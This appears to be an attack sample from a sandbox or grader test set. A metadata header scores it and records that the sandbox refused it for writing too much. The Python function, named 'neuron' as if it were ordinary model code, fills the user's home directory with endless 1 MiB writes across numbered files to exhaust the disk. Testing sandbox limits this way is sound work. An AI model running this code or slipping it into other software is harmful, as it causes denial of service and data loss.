# /// attack
# lines = [24]
# tries = "Fills the disk from its own folder: one endless file, then many."
# score = 18
# outcomes = { "1.2" = "forbidden" }
# says = "writing more than"
# ///
import os


def neuron(x, w, b, f):
    number, block = 0, b"x" * 2**20
    while True:
        number += 1
        try:
            with open(f"{os.environ['HOME']}/{number}", "wb") as file:
                while True:
                    file.write(block)
        except OSError:
            continue
